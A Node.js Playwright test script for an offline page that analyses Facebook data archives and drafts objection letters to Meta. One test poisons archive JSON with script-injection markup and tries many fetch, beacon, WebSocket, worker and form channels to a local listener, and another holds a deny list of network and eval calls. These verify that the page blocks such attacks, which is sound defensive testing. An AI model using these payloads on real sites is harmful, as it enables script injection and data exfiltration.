// Uses the page as a person would, in a real browser, opened from the disk, and compares what it
// says with the program:
//   node page.mjs CHROMIUM PAGE PROGRAM CHECKOUT [PICTURES]
// Packages (playwright-core, axe-core, pdfjs-dist) are found from the folder this runs in.

import { createRequire } from "node:module";
import { execFileSync } from "node:child_process";
import { createServer } from "node:net";
import { closeSync, cpSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readdirSync, rmSync, truncateSync, writeFileSync, writeSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { faults as stops } from "./faults.mjs";
import { rooms } from "./rooms.mjs";

const require = createRequire(join(process.cwd(), "package.json"));
const { chromium } = require("playwright-core");
const pdfjs = await import(pathToFileURL(require.resolve("pdfjs-dist/legacy/build/pdf.mjs")));
const axe = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");

const [executablePath, page, program, checkout, pictures] = process.argv.slice(2);
if (pictures) mkdirSync(pictures, { recursive: true });
const folder = mkdtempSync(join(tmpdir(), "widerspruch-page-"));
const page_ = String(pathToFileURL(resolve(page)));
const context = await chromium.launchPersistentContext(join(folder, "profile"), {
  executablePath,
  acceptDownloads: true,
  locale: "en-GB",
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", "--no-first-run"],
});

const faults = [];
let checks = 0;
const expect = (holds, fault) => {
  checks += 1;
  if (!holds) {
    faults.push(fault);
    console.log(`FAULT ${fault}`);
  }
};
const same = (is, should, what) =>
  expect(is === should, `${what}: is ${JSON.stringify(is)?.slice(0, 300)}, should be ${JSON.stringify(should)?.slice(0, 300)}`);

const native = (...words) => execFileSync(program, words, { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });
/** The program may end with 3 (something could not be read) and still report. */
const report = (...words) => {
  try {
    return native("report", "--format", "json", ...words);
  } catch (error) {
    return error.stdout;
  }
};

/** A copy of the page whose worker does something else. Scripts of workers are no part of the policy. */
function variant(name, ...changes) {
  let text = readFileSync(page, "utf8");
  for (const [old, other] of changes) {
    if (text.split(old).length !== 2) throw new Error(`the page has not exactly one ${old}`);
    text = text.replace(old, () => other);
  }
  const path = join(folder, `${name}.html`);
  writeFileSync(path, text);
  return String(pathToFileURL(path));
}

/** A new window with the page; whatever it asks for or complains about is a fault. */
async function open(width = 1280, url = page_) {
  const window = await context.newPage();
  window.on("request", (request) => {
    const to = request.url();
    expect(to === url || /^(blob|data):/.test(to), `the page asked for ${to}`);
  });
  window.on("console", (message) => expect(false, `the browser complains: ${message.text()}`));
  window.on("pageerror", (error) => expect(false, `the page fails: ${error}`));
  await window.setViewportSize({ width, height: 900 });
  await window.goto(url);
  await window.locator("#drop").waitFor();
  return window;
}

/** The text of the file that a button saves. */
async function saved(window, button) {
  const [download] = await Promise.all([window.waitForEvent("download"), window.locator(button).click()]);
  return readFileSync(await download.path(), "utf8");
}
const json = (window) => saved(window, "[data-what=json]");
const arrives = (window) => window.locator("#report").waitFor();

/** The example as a file. */
const zip = join(folder, "meta-demo.zip");
native("demo", "--save", zip);

const parts = {
  async "every fixture gives the same JSON as the program, byte for byte"() {
    const fixtures = join(checkout, "fixtures");
    for (const name of readdirSync(fixtures).sort()) {
      const window = await open();
      await window.locator("#folder").setInputFiles(join(fixtures, name));
      await arrives(window);
      same(await json(window), report(join(fixtures, name)), name);
      await window.close();
    }
  },

  async "the example, and what the person says about it"() {
    const window = await open();
    await window.locator("[data-do=demo]").click();
    await arrives(window);
    same(await json(window), report(zip), "demo");
    await window.locator("[name=audience][value=friends]").check();
    await window.locator("[name=since]").fill("2015-06-30");
    await window.locator("[name=before]").selectOption("public");
    await window.locator("[name=objected]").check();
    await window.locator("[name=objected_on]").fill("2026-01-15");
    await window.locator("[name=region][value=ch]").check();
    const told = ["--facebook-audience", "public", "--facebook-audience", "friends@2015-06-30",
      "--objected", "2026-01-15", "--region", "ch"];
    same(await json(window), report(zip, ...told), "told");
    await window.locator("[name=minor]").check();
    same(await json(window), report(zip, ...told, "--minor"), "minor");
    const frame = await window.locator("#report").getAttribute("srcdoc");
    const words = ["report", "--format", "html", "--language", "en", zip, ...told, "--minor"];
    const differs = await window.evaluate(differences, [frame, native(...words)]);
    // Only where the program names a command, the page names a room, and it names no file beside it.
    const command = /<span class="code"><span>(widerspruch|--)|docs\/questions\.md/;
    const other = differs.filter(([own, its]) => command.test(own) || !command.test(its));
    same(JSON.stringify(other), "[]", "the report in the page is the page of the program");
    expect(differs.length > 0, "the report of the program names commands");
    await window.close();
  },

  async "each room works with the keyboard, has no serious finding of axe-core, and is looked at"() {
    for (const language of ["en", "de"]) {
      for (const width of [375, 1280]) {
        for (const colorScheme of ["light", "dark"]) {
          const window = await open(width);
          await window.emulateMedia({ colorScheme });
          if (language === "de") await window.locator("[data-ask=language]").click();
          await window.waitForFunction((own) => document.documentElement.lang === own, language);
          const look = (room) => looked(window, `${room}-${width}-${colorScheme}-${language}`, width);
          await look("start");
          await window.locator("[data-do=demo]").click();
          await arrives(window);
          await look("result");
          for (const room of ["survey", "letters", "details", "statistics", "inspect"]) {
            await window.locator(`#bar [data-room=${room}]`).click();
            await window.locator(`#bar [data-room=${room}][aria-current]`).waitFor();
            await look(room);
          }
          await window.close();
        }
      }
    }
  },

  async "from the start to a printed objection without a mouse"() {
    const window = await open();
    const press = async (selector) => {
      await window.locator(selector).focus();
      await window.keyboard.press("Enter");
    };
    await press("[data-do=demo]");
    await arrives(window);
    const before = await window.locator("#change").innerText();
    await window.locator("[name=audience][value=public]").focus();
    await window.keyboard.press("Space");
    await window.waitForFunction((old) => document.getElementById("change").innerText !== old, before);
    await press(".told [data-room=letters]");
    await window.locator("[name=name]").pressSequentially("Erika Mustermann");
    await window.keyboard.press("Tab");
    await window.locator("[name=street]").pressSequentially("Heidestraße 17");
    await window.keyboard.press("Tab");
    const sheet = window.frameLocator("#letter");
    await sheet.getByText("Heidestraße 17").first().waitFor();
    await window.evaluate(() => {
      const frame = document.getElementById("letter");
      const { get } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, "contentWindow");
      Object.defineProperty(frame, "contentWindow", { get() {
        const inside = get.call(frame);
        inside.print = () => { globalThis.printed = inside.document.documentElement.outerHTML; };
        return inside;
      } });
    });
    // Straight from the last field to the button: what was typed last is on the paper.
    await window.locator("[name=town]").pressSequentially("51147 Köln");
    await press("[data-print=letter]");
    await window.waitForFunction(() => globalThis.printed);
    const paper = await context.newPage();
    await paper.setContent(await window.evaluate(() => globalThis.printed));
    const text = await pdfText(await paper.pdf({ preferCSSPageSize: true }));
    for (const words of ["Erika Mustermann", "Heidestraße 17", "51147 Köln", "Meta Platforms Ireland"]) {
      expect(text.includes(words.replace(/\s+/g, "")), `the printed letter lacks ${words}`);
    }
    const file = await saved(window, "[data-end=html]");
    expect(file.includes("Erika Mustermann"), "the saved letter lacks the name");
    await paper.close();
    await window.close();
  },

  async "the button to print stays where it is when the last gap is filled"() {
    const window = await open();
    await window.locator("[data-account=no]").first().click();
    const place = () => window.locator("[data-print=letter]").evaluate((own) => own.getBoundingClientRect().top);
    await window.locator("#open").waitFor();
    const before = await place();
    for (const [name, words] of [["name", "Erika"], ["street", "Heidestraße 17"], ["town", "51147 Köln"]]) {
      await window.locator(`[name=${name}]`).fill(words);
    }
    await window.frameLocator("#letter").getByText("51147 Köln").first().waitFor();
    expect(await place() === before, "the button moved");
    await window.close();
  },

  async "the report's way to a letter leads to the room of letters"() {
    const window = await open();
    await window.locator("[data-do=demo]").click();
    await arrives(window);
    await window.frameLocator("#report").locator(".ways a[href='#steps']").click();
    await window.locator("#letter").waitFor();
    await window.close();
  },

  async "without an account the letter is that for people without one, and it says what is open"() {
    const window = await open();
    await window.locator("[data-account=no]").first().click();
    const sheet = window.frameLocator("#letter");
    const text = await sheet.locator("main").innerText();
    expect(/have no account|kein Konto/.test(text), "the letter is not that of somebody without an account");
    same(await window.locator("[name=kind]").inputValue(), "third-party", "the kind in the form");
    const open_ = () => window.locator("#open-names").innerText();
    const before = (await open_()).split("; ").length;
    const gap = sheet.locator(".fill").first();
    await gap.click();
    await gap.pressSequentially("Max Beispiel");
    same((await open_()).split("; ").length, before - 1, "the gaps that are open");
    await window.locator("[name=kind]").selectOption("short");
    await window.locator("[name=street]").waitFor({ state: "hidden" });
    await sheet.locator("main p").nth(1).waitFor({ state: "detached" });
    const short = await sheet.locator("main p").allInnerTexts();
    same(short.length, 1, "paragraphs of the short text");
    expect(short[0].split(". ").length === 1, `the short text has more than a sentence: ${short[0]}`);
    await window.close();
  },

  async "what is typed into the sheet is in what is saved and copied"() {
    const window = await open();
    await window.locator(".ways [data-room=letters]").first().click();
    const gap = window.frameLocator("#letter").locator(".fill").first();
    await gap.click();
    await gap.pressSequentially("Max Beispiel");
    const text = await saved(window, "[data-end=text]");
    expect(text.startsWith("Max Beispiel"), `the text begins with ${text.slice(0, 40)}`);
    await window.locator("[name=kind]").selectOption("third-party");
    await window.locator("[name=evidence]").waitFor();
    same(await gap.innerText(), "Max Beispiel", "the other letter keeps what was typed");
    await window.close();
  },

  async "the survey asks, is saved, and goes on from its file as the command line would"() {
    const window = await open();
    await window.locator("#files").setInputFiles(zip);
    await arrives(window);
    await window.locator("#bar [data-room=survey]").click();
    const title = () => window.locator("h1").innerText();
    const key = async (sign) => {
      const old = await title();
      await window.keyboard.press(sign);
      await window.waitForFunction((was) => document.querySelector("h1").innerText !== was, old);
    };
    // Texts are read once more for it.
    await window.locator(".survey").waitFor();
    same(await title(), "Question 1 of 5", "survey");
    await key("2");
    same(await title(), "Question 2 of 5", "survey");
    await key("b");
    same(await title(), "Question 1 of 5", "survey goes back");
    await key("0");
    await key("w");
    await key("1");
    same(await title(), "1 of 20", "the sample");
    await key("1");
    await key("2");
    await key("b");
    same(await title(), "2 of 20", "the sample goes back");
    await key("3");
    const answers = join(folder, "widerspruch-answers.json");
    writeFileSync(answers, await saved(window, "[data-what=answers]"));
    const kept = JSON.parse(readFileSync(answers, "utf8"));
    same(Object.values(kept.items).sort().join(), "only_me,public", "answers");
    same(kept.sample.reached, 2, "reached");
    await window.locator("#bar [data-room=result]").click();
    await arrives(window);
    same(await json(window), report(zip, "--answers", answers), "the report with answers");
    await window.close();
    const again = await open();
    await again.locator("#files").setInputFiles([answers, zip]);
    await arrives(again);
    same(await json(again), report(zip, "--answers", answers), "the report with the file of answers");
    await again.locator("#bar [data-room=survey]").click();
    await again.locator(".survey").waitFor();
    same(await again.locator("h1").innerText(), "3 of 20", "resumed");
    await again.close();
  },

  async "the survey and the form beside the report know the same, also with a day"() {
    const window = await open();
    await window.locator("#files").setInputFiles(zip);
    await arrives(window);
    await window.locator("#bar [data-room=survey]").click();
    await window.locator("[name=first]").selectOption("public");
    await window.locator("[data-act=changed]").click();
    same(await window.locator("h1").innerText(), "Question 1 of 5", "without a day nothing is answered");
    await window.locator("[name=since-0]").fill("2015-06-30");
    await window.locator("[name=then-0]").selectOption("friends");
    await window.locator("[data-act=changed]").click();
    await window.waitForFunction(() => document.querySelector("h1").innerText === "Question 2 of 5");
    await window.locator("#bar [data-room=result]").click();
    await arrives(window);
    expect(await window.locator("[name=audience][value=friends]").isChecked(), "friends is chosen beside the report");
    same(await window.locator("[name=since]").inputValue(), "2015-06-30", "since");
    same(await window.locator("[name=before]").inputValue(), "public", "before");
    const told = ["--facebook-audience", "public", "--facebook-audience", "friends@2015-06-30"];
    const numbers = (text) => JSON.stringify(JSON.parse(text).headline);
    same(numbers(await json(window)), numbers(report(zip, ...told)), "the numbers");
    await window.locator("[name=audience][value=public]").check();
    await window.locator("[name=since]").fill("");
    await window.locator("#bar [data-room=survey]").click();
    await window.locator(".survey").waitFor();
    const kept = JSON.parse(await saved(window, "[data-what=answers]"));
    same(JSON.stringify(kept.facebook_audience), '{"told":[{"audience":"public","since":null}]}', "the answers");
    await window.close();
  },

  async "the shape can be copied and saved, and is that of the program"() {
    const window = await open();
    await window.locator("#files").setInputFiles(zip);
    await arrives(window);
    await window.locator("#bar [data-room=inspect]").click();
    await window.locator("[data-ask=copy]").click();
    await window.locator("#copied:not(:empty)").waitFor();
    same(await window.locator("#copied").innerText(), "Copied", "copied");
    same(await saved(window, "[data-what=inspection]:not([data-ask=copy])"), native("inspect", "--shape", zip), "the shape");
    await window.close();
  },

  async "details, statistics, a saved report and many statistics"() {
    const window = await open();
    await window.locator("#files").setInputFiles(zip);
    await arrives(window);
    const own = join(folder, "report.json");
    writeFileSync(own, await json(window));
    await window.locator("#bar [data-room=details]").click();
    await window.locator(".items").waitFor();
    const csv = await saved(window, "[data-what=details]");
    same(csv, native("report", zip, "--details=texts", "--details-format", "csv", "--language", "en"), "the table");
    const rows = () => window.locator(".items tbody tr").count();
    const all = await rows();
    await window.locator("[name=search]").fill("comment");
    await window.waitForFunction((count) => document.querySelectorAll(".items tbody tr").length !== count, all);
    expect(await rows() > 0, "the search finds comments");
    await window.locator("#bar [data-room=statistics]").click();
    const shown = await window.locator("pre").innerText();
    const file = await saved(window, "[data-what=statistics]");
    for (const line of file.trim().split("\n")) expect(shown.includes(line), `not in the preview: ${line}`);
    await window.close();

    const saved_ = await open();
    await saved_.locator("#files").setInputFiles(own);
    await arrives(saved_);
    same(await json(saved_), readFileSync(own, "utf8"), "a saved report comes back");
    await saved_.close();

    const files = [1, 2, 3, 4, 5, 6].map((number) => {
      const path = join(folder, `statistics-${number}.json`);
      writeFileSync(path, file.replace(/"submission": "[0-9a-f]{32}"/, `"submission": "${String(number).padStart(32, "0")}"`));
      return path;
    });
    const many = await open();
    await many.locator("#files").setInputFiles(files);
    await many.locator("#pool").waitFor();
    same(await saved(many, "[data-what=pool_csv]"), native("pool", ...files, "--format", "csv"), "the pooled table");
    await many.locator("[name=title]").fill("Zwölf <b>Archive</b>");
    await many.locator("[name=collected_by]").fill("Musterblatt");
    await many.locator("[name=collected_by]").press("Enter");
    await many.locator("[name=note]").focus();
    const heading = many.frameLocator("#pool").locator("h1");
    await many.waitForFunction(() => document.querySelector("#pool")?.contentDocument?.querySelector("h1")?.textContent?.includes("Zwölf"));
    expect(await heading.innerText() === "Zwölf <b>Archive</b>", "the title is text");
    const ledger = join(folder, "published.ledger");
    writeFileSync(ledger, await saved(many, "[data-what=pool_ledger]"));
    expect(readFileSync(ledger, "utf8").includes("widerspruch.ledger/1"), "a ledger");
    // Two came since: three more are needed. And of six only those on a list of numbers count.
    const later = [7, 8].map((number) => {
      const path = join(folder, `statistics-${number}.json`);
      writeFileSync(path, file.replace(/"submission": "[0-9a-f]{32}"/, `"submission": "${String(number).padStart(32, "0")}"`));
      return path;
    });
    await many.locator("#files").setInputFiles([...files, ...later, ledger]);
    await many.locator(".found-nothing[role=alert]").filter({ hasText: "3 " }).waitFor();
    expect(await many.locator("#pool").count() === 0, "no table");
    const numbers = join(folder, "numbers.txt");
    writeFileSync(numbers, "aaaa-0001\naaaa-0002\n");
    await many.locator("#files").setInputFiles([...files, numbers]);
    await many.locator("#pool, .found-nothing li, .found-nothing p").first().waitFor();
    await many.waitForFunction(() => (document.querySelector(".found-nothing")?.textContent ?? "").includes("statistics-6.json"));
    await many.close();
  },

  async "what cannot be used is named, with what to do"() {
    const cases = { "text.zip": "no zip", "empty.zip": "", "notes.pdf": "%PDF" };
    for (const [name, bytes] of Object.entries(cases)) {
      const path = join(folder, name);
      writeFileSync(path, bytes);
      const window = await open();
      await window.locator("#files").setInputFiles(path);
      const note = window.locator(".found-nothing");
      await note.waitFor();
      expect((await note.innerText()).includes(name), `${name} is not named: ${await note.innerText()}`);
      // And the page still works.
      await window.locator("[data-do=demo]").click();
      await arrives(window);
      await window.close();
    }
  },

  async "reading can be cancelled, and begun again"() {
    const big = manyPosts();
    const window = await open();
    await window.locator("#folder").setInputFiles(big);
    await window.locator("[data-do=cancel]").click();
    await window.locator(".found-nothing").waitFor();
    await window.locator("#folder").setInputFiles(big);
    await arrives(window);
    const posts_ = JSON.parse(await json(window)).headline.posts.found;
    same(posts_, 150_000, "posts after a cancelled run");
    await window.close();
  },

  async "files that vanish are named, and the numbers stay"() {
    const own = join(folder, "vanishes.zip");
    cpSync(zip, own);
    const window = await open();
    await window.locator("#files").setInputFiles(own);
    await arrives(window);
    const before = await json(window);
    rmSync(own);
    await window.locator("#bar [data-room=survey]").click();
    await window.locator("#fault:not(:empty)").waitFor();
    expect((await window.locator("#fault").innerText()).includes("no longer be read"), "the page says why");
    await arrives(window);
    same(await json(window), before, "the numbers");
    await window.close();

    // A file in a cloud that the browser cannot fetch.
    const second = await open(1280, variant("cloud", ["reader.readAsArrayBuffer(", "reader.cannot("]));
    await second.evaluate(() => { Blob.prototype.arrayBuffer = () => Promise.reject(new DOMException("", "NotReadableError")); });
    await second.locator("#files").setInputFiles(zip);
    const note = second.locator(".found-nothing");
    await note.waitFor();
    expect(/meta-demo\.zip cannot be read.*cloud/s.test(await note.innerText()), `it says ${await note.innerText()}`);
    await second.close();
  },

  async "a part of exactly 2 GiB is named as incomplete, and an archive above 4 GB is read"() {
    const half = join(folder, "facebook-part.zip");
    const bytes = readFileSync(zip);
    writeFileSync(half, bytes.subarray(0, bytes.readUInt32LE(bytes.length - 6)));
    truncateSync(half, 2 ** 31);
    const window = await open();
    await window.locator("#files").setInputFiles(half);
    await window.locator("#report").waitFor({ timeout: 120_000 });
    same(await json(window), report(half), "2 GiB");
    const said = window.frameLocator("#report").locator("body");
    expect((await said.innerText()).includes("This download broke off"), "the report says that the part is incomplete");
    await window.close();
    rmSync(half);

    const large = join(folder, "large.zip");
    afterHole(readFileSync(zip), large, 4_500_000_000);
    const second = await open();
    await second.locator("#files").setInputFiles(large);
    await arrives(second);
    const own = JSON.parse(await json(second));
    same(JSON.stringify(own), JSON.stringify(JSON.parse(report(large))), "above 4 GB");
    expect(own.headline.posts.found > 0, "posts above 4 GB");
    await second.close();
    rmSync(large);
  },

  async "memory does not grow with the archive"() {
    const tells = variant("tells", ["answer: JSON.parse(text(at, length))",
      "answer: JSON.parse(text(at, length)), memory: core.memory.buffer.byteLength"]);
    const window = await open(1280, tells);
    await window.evaluate("worker.addEventListener('message', ({ data }) => { globalThis.memory = data.memory; })");
    await window.locator("#folder").setInputFiles(manyPosts());
    await arrives(window);
    const memory = await window.evaluate(() => globalThis.memory);
    expect(memory < 64_000_000, `${memory} bytes of memory`);
    await window.close();
  },

  async "what archives say runs nothing and asks for nothing, and neither could anybody else"() {
    const heard = [];
    const listener = createServer((socket) => {
      socket.on("data", (bytes) => heard.push(bytes.toString().split("\n")[0]));
      socket.on("error", () => {});
    });
    await new Promise((done) => listener.listen(0, "127.0.0.1", done));
    const at = `127.0.0.1:${listener.address().port}`;
    const hostile = join(folder, "hostile");
    cpSync(join(checkout, "fixtures", "facebook-L4-json"), hostile, { recursive: true });
    const markup = `"><img src=http://${at}/img onerror="top.broken=1"><script>top.broken=1;fetch('http://${at}/x')</script>` +
      `<iframe src=http://${at}/frame></iframe><link rel=preconnect href=http://${at}><style>@import 'http://${at}/css';*{background:url(http://${at}/bg)}</style>` +
      `<meta http-equiv=refresh content="0;url=http://${at}/refresh"><form action=http://${at}/form><button>x</button></form><svg onload="top.broken=1">`;
    poison(hostile, markup);
    const window = await context.newPage();
    await window.goto(page_);
    await window.locator("#folder").setInputFiles(hostile);
    await arrives(window);
    for (const room of ["survey", "letters", "details", "statistics", "inspect", "result"]) {
      await window.locator(`#bar [data-room=${room}]`).click();
      await window.locator(`#bar [data-room=${room}][aria-current]`).waitFor();
      const foreign = await window.evaluate(() => [...document.querySelectorAll("main img, main script, main svg, main link, main meta, main style, main form[action]")].length);
      same(foreign, 0, `markup of the archive in ${room}`);
    }
    same(await window.evaluate(() => globalThis.broken), undefined, "a script of the archive ran");
    // Whatever else ran in the page could not reach anybody either, but by WebRTC: Chromium knows no
    // policy against it (docs/browser.md). Nothing else runs, and our scripts have no such call.
    await window.evaluate(async (at) => {
      const tries = [
        () => fetch(`http://${at}/fetch`), () => navigator.sendBeacon(`http://${at}/beacon`, "x"),
        () => { const own = new XMLHttpRequest(); own.open("POST", `http://${at}/xhr`); own.send("x"); },
        () => new WebSocket(`ws://${at}/socket`), () => new EventSource(`http://${at}/events`),
        () => { new Image().src = `http://${at}/image`; },
        () => new FontFace("x", `url(http://${at}/font)`).load(),
        () => new Worker(`http://${at}/worker.js`),
        () => new Worker(URL.createObjectURL(new Blob([`importScripts("http://${at}/import")`]))),
        () => new Worker(URL.createObjectURL(new Blob([`fetch("http://${at}/worker-fetch")`]))),
        () => import(`http://${at}/module.js`),
        ...["script", "img", "iframe", "embed", "video", "audio"].map((name) => () => {
          const own = document.body.appendChild(document.createElement(name)); own.src = `http://${at}/${name}`; }),
        ...["stylesheet", "prefetch", "preload", "prerender", "modulepreload", "icon"].map((rel) => () => {
          const own = document.head.appendChild(document.createElement("link")); own.rel = rel; own.as = "image"; own.href = `http://${at}/${rel}`; }),
        () => { const own = document.body.appendChild(document.createElement("form")); own.action = `http://${at}/form`; own.method = "post"; own.target = "_blank"; own.submit(); },
      ];
      for (const attempt of tries) {
        try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 200))]); } catch { /* refused */ }
      }
      await new Promise((done) => setTimeout(done, 1500));
    }, at);
    same(heard.join(), "", "the listener heard");
    await window.close();
    listener.close();
  },

  async "our own scripts call nothing that reaches out, and know no address"() {
    const never = ["fetch(", "XMLHttpRequest", "sendBeacon", "WebSocket", "EventSource", "RTCPeerConnection", "import(", "importScripts",
      "localStorage", "sessionStorage", "indexedDB", "document.cookie", "caches", "http:", "https:", "eval(", "new Function"];
    for (const name of ["page.js", "worker.js"]) {
      const script = readFileSync(join(checkout, "web", "page", name), "utf8");
      for (const word of never) expect(!script.includes(word), `${name} has ${word}`);
    }
    const third = readFileSync(page, "utf8").split("\n")[2];
    expect(third.includes("connect-src 'none'") && third.includes("default-src 'none'"), `line 3: ${third}`);
  },
};

/** A folder with 150,000 posts, 47 MB. */
function manyPosts() {
  const folder_ = join(folder, "big");
  const big = join(folder_, "your_facebook_activity", "posts");
  if (!existsSync(big)) {
    mkdirSync(big, { recursive: true });
    const post = (number) => ({ timestamp: 1500000000 + number, data: [{ post: `Post ${number} ${"words ".repeat(40)}` }], title: "Erika Mustermann" });
    const posts = Array.from({ length: 150_000 }, (_, number) => post(number));
    writeFileSync(join(big, "your_posts__check_ins__photos_and_videos_1.json"), JSON.stringify(posts));
  }
  return folder_;
}

/** A zip again, behind a stored video of so many zeros that take no room on the disk (zip64). */
function afterHole(bytes, path, hole) {
  const name = Buffer.from("your_facebook_activity/posts/media/videos/long.mp4");
  const end = bytes.lastIndexOf(Buffer.from("PK\x05\x06", "latin1"));
  const [count, size, start] = [bytes.readUInt16LE(end + 10), bytes.readUInt32LE(end + 12), bytes.readUInt32LE(end + 16)];
  const numbers = (...parts) => Buffer.concat(parts.map(([length, value]) => {
    const part = Buffer.alloc(length);
    if (length === 8) part.writeBigUInt64LE(BigInt(value)); else part.writeUIntLE(value, 0, length);
    return part;
  }));
  const most = 0xffffffff;
  const sizes = numbers([2, 1], [2, 16], [8, hole], [8, hole]);
  const local = Buffer.concat([numbers([4, 0x04034b50], [2, 45], [2, 0], [2, 0], [2, 0], [2, 0x5c21], [4, 0], [4, most], [4, most],
    [2, name.length], [2, sizes.length]), name, sizes]);
  const shift = local.length + hole;
  const entries = [numbers([4, 0x02014b50], [2, 45], [2, 45], [2, 0], [2, 0], [2, 0], [2, 0x5c21], [4, 0], [4, most], [4, most],
    [2, name.length], [2, sizes.length], [2, 0], [2, 0], [2, 0], [4, 0], [4, 0]), name, sizes];
  for (let at = start; at < start + size;) {
    const [names, extras, comments] = [28, 30, 32].map((own) => bytes.readUInt16LE(at + own));
    const head = Buffer.from(bytes.subarray(at, at + 46));
    const offset = numbers([2, 1], [2, 8], [8, head.readUInt32LE(42) + shift]);
    head.writeUInt16LE(extras + offset.length, 30);
    head.writeUInt32LE(most, 42);
    const rest = at + 46 + names + extras;
    entries.push(head, bytes.subarray(at + 46, rest), offset, bytes.subarray(rest, rest + comments));
    at = rest + comments;
  }
  const table = Buffer.concat(entries);
  const from = shift + start;
  const tail = numbers([4, 0x06064b50], [8, 44], [2, 45], [2, 45], [4, 0], [4, 0], [8, count + 1], [8, count + 1], [8, table.length], [8, from],
    [4, 0x07064b50], [4, 0], [8, from + table.length], [4, 1],
    [4, 0x06054b50], [2, 0], [2, 0], [2, 0xffff], [2, 0xffff], [4, most], [4, most], [2, 0]);
  const file = openSync(path, "w");
  writeSync(file, local, 0, local.length, 0);
  writeSync(file, bytes, 0, start, shift);
  writeSync(file, table, 0, table.length, from);
  writeSync(file, tail, 0, tail.length, from + table.length);
  closeSync(file);
}

/** Pieces of text of two pages that differ, or all if there are not as many. Runs in the page. */
function differences([one, other]) {
  const pieces = (page) => [...new DOMParser().parseFromString(page, "text/html")
    .querySelectorAll("h1, h2, h3, p, li, td, th, dt, dd, summary, caption, style, svg, address, div, section")]
    .filter((own) => !own.querySelector("h1, h2, h3, p, li, td, th, dt, dd, summary, caption"))
    .map((own) => own.outerHTML);
  const [own, its] = [pieces(one), pieces(other)];
  if (own.length !== its.length) return [[`${own.length} pieces`, `${its.length} pieces`]];
  return own.map((piece, at) => [piece, its[at]]).filter(([a, b]) => a !== b);
}

/** Puts markup into all texts of a copied archive. */
function poison(path, markup) {
  for (const entry of readdirSync(path, { withFileTypes: true })) {
    const own = join(path, entry.name);
    if (entry.isDirectory()) {
      poison(own, markup);
    } else if (entry.name.endsWith(".json")) {
      const walk = (value) => typeof value === "string"
        ? (value.includes(" ") ? `${value} ${markup}` : value)
        : Array.isArray(value) ? value.map(walk)
        : value && typeof value === "object" ? Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, walk(inner)]))
        : value;
      writeFileSync(own, JSON.stringify(walk(JSON.parse(readFileSync(own, "utf8")))));
    }
  }
}

/** A picture of a room, and what axe-core and the eye of a ruler find. */
async function looked(window, name, width) {
  await window.waitForTimeout(150);
  if (pictures) await window.screenshot({ path: join(pictures, `${name}.png`), fullPage: true });
  const wide = await window.evaluate(() => document.documentElement.scrollWidth);
  expect(wide <= width, `${name}: ${wide} pixels wide`);
  const small = await window.evaluate(() => [...document.querySelectorAll("button, input:not([type=radio], [type=checkbox]), select")]
    .filter((own) => own.getClientRects().length > 0 && own.getBoundingClientRect().height < 43.5)
    .map((own) => own.outerHTML.slice(0, 80)));
  expect(small.length === 0, `${name}: smaller than a finger: ${small.join(" | ")}`);
  await window.evaluate(axe);
  const found = await window.evaluate(() => globalThis.axe.run({ resultTypes: ["violations"], iframes: false }));
  for (const own of found.violations.filter((own) => ["serious", "critical"].includes(own.impact))) {
    expect(false, `${name}: axe-core: ${own.id} (${own.nodes.map((node) => node.html.slice(0, 120)).join(" ; ")})`);
  }
}

/** The text of each sheet of a PDF without blanks. */
async function pdfPages(pdf) {
  const file = await pdfjs.getDocument({ data: new Uint8Array(pdf), verbosity: 0 }).promise;
  const pages = [];
  for (let number = 1; number <= file.numPages; number += 1) {
    const { items } = await (await file.getPage(number)).getTextContent();
    pages.push(items.map((item) => item.str).join("").replace(/\s+/g, "").normalize("NFC"));
  }
  return pages;
}
const pdfText = async (pdf) => (await pdfPages(pdf)).join("");

const tools = { open, arrives, saved, json, native, report, same, expect, variant, pdfPages, manyPosts, folder, checkout, zip };
Object.assign(parts, stops(tools), rooms(tools));
const only = process.env.ONLY;
for (const [name, part] of Object.entries(parts).filter(([name]) => !only || new RegExp(only).test(name))) {
  const began = Date.now();
  try {
    await part();
  } catch (error) {
    expect(false, `${name}: ${error.stack}`);
  }
  console.log(`${name} (${((Date.now() - began) / 1000).toFixed(1)} s)`);
}

await context.close();
rmSync(folder, { recursive: true, force: true });
console.log(`${checks - faults.length} passed, ${faults.length} failed`);
process.exitCode = faults.length > 0 || checks === 0 ? 1 : 0;
